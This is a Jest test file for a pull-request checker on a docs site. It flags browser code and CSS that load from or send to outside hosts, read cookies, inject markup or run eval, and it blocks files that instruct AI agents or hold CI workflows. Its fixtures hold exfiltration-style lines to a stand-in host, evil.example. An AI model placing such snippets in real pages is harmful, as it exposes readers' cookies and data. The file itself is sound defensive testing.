import { describe, expect, test } from '@jest/globals'
import * as nodeModule from 'node:module'
import { agentFileNamed, isAgentFile, neverAllowed } from '../../src/agent/check/agent-files.js'
import { DEFAULT_ALLOWED_PATHS } from '../../src/agent/check/allowed-paths.js'
import { checkChange } from '../../src/agent/check/check-change.js'
import type { FileChange, Finding } from '../../src/agent/check/change-types.js'
import { tooLarge } from '../../src/agent/job/change-check.js'
import type { PullFile } from '../../src/shared/github/pull-change.js'

// Issue #52: what the team allows is judged, what was not read is no pass, and the files that
// steer agents or run with the repository's secrets are never allowed by a broad glob.

const RULES = {
  allowedPaths: [...DEFAULT_ALLOWED_PATHS, 'snippets/**/*.{js,jsx,ts,tsx,css}', '**/*.{js,css}'],
  allowedLinkHosts: ['api.allowed.example', '*.cdn.example'],
}
const COMPONENT = [
  'export const Counter = ({ start }) => {',
  '  const [count, setCount] = useState(start)',
  '  return <button onClick={() => setCount(count + 1)}>{count}</button>',
  '}',
  '',
].join('\n')

/** The findings of a code file added (or changed from `base`) at `path`. */
const judged = (path: string, head: string, base?: string): Promise<Finding[]> =>
  checkChange(
    [{ path, status: base === undefined ? 'added' : 'modified', head, ...(base && { base }) }],
    RULES,
  )
const details = async (path: string, head: string, base?: string): Promise<string[]> =>
  (await judged(path, head, base)).map((f) => `${f.kind} ${f.line}: ${f.detail}`)

describe('a script or component the team allows is judged for what runs in readers’ browsers', () => {
  test.each([
    ['<script src="https://evil.example/x.js" />', '<script> element'],
    ['document.createElement("script")', '<script> element made at run time'],
    ['import x from "https://evil.example/x.js"', 'an import from evil.example'],
    ['export * from "//evil.example/x.js"', 'an import from evil.example'],
    ['import("https://api.allowed.example/x.js")', 'a dynamic import from api.allowed.example'],
    ['import(url)', 'a dynamic import of an address the code computes'],
    ['eval("1")', 'eval'],
    ['window["eval"]("1")', 'eval'],
    ['new Function("return 1")()', 'the Function constructor'],
    ['const f = Function', 'the Function constructor'],
    ['[].map.constructor("alert(1)")()', 'the Function constructor (.constructor)'],
    ['setTimeout("alert(1)", 10)', 'code in a string given to setTimeout'],
    ['const c = document.cookie', "the reader's cookies (document.cookie)"],
    ['window.document["cookie"]', "the reader's cookies (document.cookie)"],
    ['fetch("https://evil.example/?c=1")', 'a fetch to evil.example'],
    ['fetch(`https://evil.example/${path}`)', 'a fetch to evil.example'],
    ['fetch("https://" + host + "/x")', 'a fetch to an address the code computes'],
    ['window.fetch(target)', 'a fetch to an address the code computes'],
    ['new WebSocket("wss://evil.example/s")', 'a WebSocket to evil.example'],
    ['navigator.sendBeacon("https://evil.example/b", data)', 'a beacon to evil.example'],
    [
      'const r = new XMLHttpRequest()\nr.open("POST", "https://evil.example/x")',
      'an XMLHttpRequest to evil.example',
    ],
    ['el.innerHTML = text', 'markup injected through innerHTML'],
    ['el.insertAdjacentHTML("beforeend", text)', 'markup injected with insertAdjacentHTML'],
    ['document.write(text)', 'markup injected with document.write'],
    [
      '<div dangerouslySetInnerHTML={{ __html: text }} />',
      'markup injected through dangerouslySetInnerHTML',
    ],
    ['const a = <a href="javascript:alert(1)">x</a>', 'a javascript: URL'],
    ['<link rel="stylesheet" href="https://evil.example/x.css" />', 'a <link> to evil.example'],
    ['globalThis[name]()', 'a computed property of globalThis'],
  ])('%s is found: %s', async (code, detail) => {
    // A module's imports stand at its top level; the rest in a component.
    const head = /^(import|export) /.test(code)
      ? `${code}\n${COMPONENT}`
      : `${COMPONENT}export const Widget = () => {\n  ${code}\n}\n`
    const found = await judged('snippets/widget.jsx', head)
    expect(found.map((f) => [f.kind, f.severity, f.detail])).toContainEqual([
      'script',
      'block',
      detail,
    ])
  })

  test('a component that shows state, handles clicks and asks its own site or an allowed host passes', async () => {
    const head = [
      COMPONENT,
      'export const Data = () => {',
      '  useEffect(() => { fetch("/api/items").then((r) => r.json()) }, [])',
      '  useEffect(() => { fetch("https://api.allowed.example/v1") }, [])',
      '  setTimeout(() => setOpen(false), 100)',
      '  return <img src="/logo.png" alt="" />',
      '}',
    ].join('\n')
    expect(await judged('snippets/data.jsx', head)).toEqual([])
  })

  test('only what the change adds counts: a fetch the base had already is the docs’ own', async () => {
    const base = `${COMPONENT}export const f = () => fetch("https://evil.example/x")\n`
    const head = `// A new comment.\n${base}`
    expect(await judged('snippets/widget.jsx', head, base)).toEqual([])
  })

  test('a link in a component’s markup to a new host warns, as in a page', async () => {
    const head = `export const A = () => <a href="https://elsewhere.example/">x</a>\n`
    expect(await details('snippets/a.jsx', head)).toEqual(['link 1: a link to elsewhere.example'])
  })

  test('a script that does not parse cannot be judged: a finding of its own, naming the line', async () => {
    expect(await details('custom.js', 'const a = 1\nconst = 2\n')).toEqual([
      expect.stringMatching(/^unchecked 2: code that does not parse \(Unexpected token/),
    ])
  })

  test('a classic script (no module) is read as one', async () => {
    expect(await details('custom.js', 'with (document) { cookie }\n')).toEqual([])
  })
})

describe('TypeScript and TSX', () => {
  const strips = 'stripTypeScriptTypes' in nodeModule
  test('TypeScript is judged as the JavaScript it runs as (Node 24), or is a finding', async () => {
    const head =
      'const url: string = "https://evil.example/x"\nexport const go = (): void => { fetch(url) }\nfetch("https://evil.example/y" as string)\n'
    const found = await details('snippets/go.ts', head)
    expect(found).toEqual(
      strips
        ? ['script 2: a fetch to an address the code computes', 'script 3: a fetch to evil.example']
        : ['unchecked 1: TypeScript, which this Node cannot read (it needs Node 24)'],
    )
  })

  test('TypeScript beyond erasable syntax, and TSX, cannot be judged', async () => {
    const enumFound = await details('snippets/kinds.ts', 'export enum Kind { A, B }\n')
    expect(enumFound).toEqual([expect.stringMatching(/^unchecked 1: TypeScript/)])
    expect(await details('snippets/card.tsx', 'export const Card = () => <div />\n')).toEqual([
      'unchecked 1: TSX, which the check cannot read: a person must review it',
    ])
  })
})

describe('a stylesheet the team allows', () => {
  test.each([
    ['@import "https://evil.example/x.css";', 'CSS that loads from evil.example'],
    ['@IMPORT url(//evil.example/x.css);', 'CSS that loads from evil.example'],
    ['a { background: \\75 rl(https://evil.example/p.png) }', 'CSS that loads from evil.example'],
    ['a { background: url( "https://evil.example/p.png" ) }', 'CSS that loads from evil.example'],
    [
      'a { background: image-set("https://evil.example/a.png" 1x) }',
      'CSS that loads from evil.example',
    ],
    ['a { background: src(var(--x)) }', 'a CSS address left to run time'],
    ['a { width: expression(alert(1)) }', 'CSS expression(), which runs code'],
    ['a { behavior: url(x.htc) }', 'CSS behavior, which runs code'],
    ['a { background: url("javascript:alert(1)") }', 'a javascript: URL in CSS'],
  ])('%s is found: %s', async (css, detail) => {
    const found = await judged('styles/site.css', `body { margin: 0 }\n${css}\n`)
    expect(found.map((f) => [f.kind, f.line, f.detail])).toContainEqual(['script', 2, detail])
  })

  test('local images, fonts, an allowed CDN and a URL in a comment pass', async () => {
    const css = [
      '/* url(https://evil.example/x) */',
      '@font-face { font-family: X; src: url("/fonts/x.woff2") format("woff2") }',
      'a { background: url(images/bg.png), url(https://img.cdn.example/a.png) }',
      'b { background: image-set(linear-gradient(red, blue) 1x) }',
    ].join('\n')
    expect(await judged('styles/site.css', css)).toEqual([])
  })
})

describe('what was not read is no pass', () => {
  const only = async (file: FileChange): Promise<string[]> =>
    (await checkChange([file], { ...RULES, allowedPaths: ['**'] })).map(
      (f) => `${f.kind}: ${f.detail}`,
    )

  test('a binary file that is not a raster image blocks; a raster image is judged by its path', async () => {
    expect(await only({ path: 'fonts/x.woff2', status: 'added', binary: true })).toEqual([
      'unchecked: a binary file, which the check cannot read',
    ])
    expect(await only({ path: 'images/x.png', status: 'added', binary: true })).toEqual([])
  })

  test('a file listed but not read blocks', async () => {
    expect(await only({ path: 'notes.txt', status: 'modified' })).toEqual([
      'unchecked: a file whose text the check did not read',
    ])
    expect(await only({ path: 'notes.txt', status: 'removed' })).toEqual([])
  })
})

describe('files no broad glob allows', () => {
  test.each([
    ['AGENTS.md', ['**/*agents*', '**/*.md', '**']],
    ['docs/CLAUDE.md', ['**/*claude*', '**/*.md']],
    ['GEMINI.md', ['*.md']],
    ['.cursor/rules/style.mdc', ['.cursor/**', '.cursor/rules/*.mdc']],
    ['.claude/settings.json', ['.claude/**']],
    ['.windsurfrules', ['.windsurf*']],
  ])('%s under %j blocks as instructions to AI agents', async (path, globs) => {
    // As such a file is written: a JSON file that does not parse would be `unchecked` as well.
    const head = path.endsWith('.json') ? '{ "note": "Be brief." }\n' : 'Be brief.\n'
    const found = await checkChange([{ path, status: 'added', head }], {
      allowedPaths: globs,
      allowedLinkHosts: [],
    })
    expect(found.map((f) => [f.kind, f.detail])).toEqual([['path', `${path} instructs AI agents`]])
  })

  test('a glob whose last segment names the file allows it', () => {
    expect(agentFileNamed('AGENTS.md', ['AGENTS.md'])).toBe(true)
    expect(agentFileNamed('docs/AGENTS.md', ['**/AGENTS.md'])).toBe(true)
    expect(agentFileNamed('.cursor/rules/style.mdc', ['.cursor/rules/style.mdc'])).toBe(true)
    expect(agentFileNamed('AGENTS.md', ['**/AGENT?.md', '{AGENTS,X}.md', 'docs/AGENTS.md'])).toBe(
      false,
    )
    expect(isAgentFile('guides/agents.mdx')).toBe(false)
    expect(isAgentFile('guides/ai-agents.md')).toBe(false)
    expect(isAgentFile('.mintlify/workflows/nightly.md')).toBe(true)
  })

  test.each([
    '.github/workflows/x.yml',
    '.github/actions/setup/action.yml',
    '.github/CODEOWNERS',
    '.github/dependabot.yml',
    '.GitHub/workflows/x.yml',
    'CODEOWNERS',
    'docs/CODEOWNERS',
  ])('%s blocks whatever allowed-paths says, at either end of a rename', async (path) => {
    expect(neverAllowed(path)).toBeDefined()
    const everything = {
      allowedPaths: ['**', '.github/**', '.GitHub/**', '**/*'],
      allowedLinkHosts: [],
    }
    const added = await checkChange([{ path, status: 'added', head: 'x\n' }], everything)
    expect(added.map((f) => f.kind)).toEqual(['path'])
    const moved = await checkChange(
      [{ path: 'notes/x.yml', previousPath: path, status: 'renamed', head: 'x\n', base: 'x\n' }],
      everything,
    )
    expect(moved.map((f) => f.kind)).toEqual(['path'])
  })

  test('.github/ below the root, and a page named like CODEOWNERS, are other files', () => {
    expect(neverAllowed('examples/.github/workflows/x.yml')).toBeUndefined()
    expect(neverAllowed('guides/codeowners.mdx')).toBeUndefined()
  })
})

describe('a list that may be truncated is too large', () => {
  const files = (n: number, path = (i: number) => `images/${i}.png`): PullFile[] =>
    Array.from({ length: n }, (_, i) => ({
      path: path(i),
      status: 'added',
      previousPath: undefined,
      patch: undefined,
    }))

  test('3000 files or more, a page left unread, or fewer than changed_files', () => {
    expect(tooLarge(files(2999), { complete: true, changedFiles: 2999 })).toBeUndefined()
    expect(tooLarge(files(3000), { complete: true, changedFiles: 3000 })).toBe(
      'the change has 3000 files or more; GitHub lists at most 3000',
    )
    expect(tooLarge(files(10), { complete: false })).toMatch(/10 files or more/)
    expect(tooLarge(files(10), { complete: true, changedFiles: 11 })).toBe(
      'GitHub listed 10 of the 11 files the change has',
    )
  })

  test('text without a diff is read whole, and counts toward what the check reads', () => {
    const text = files(41, (i) => `notes/${i}.txt`)
    expect(tooLarge(text, { complete: true })).toMatch(/41 files to read/)
    expect(tooLarge(files(41), { complete: true })).toBeUndefined()
  })
})
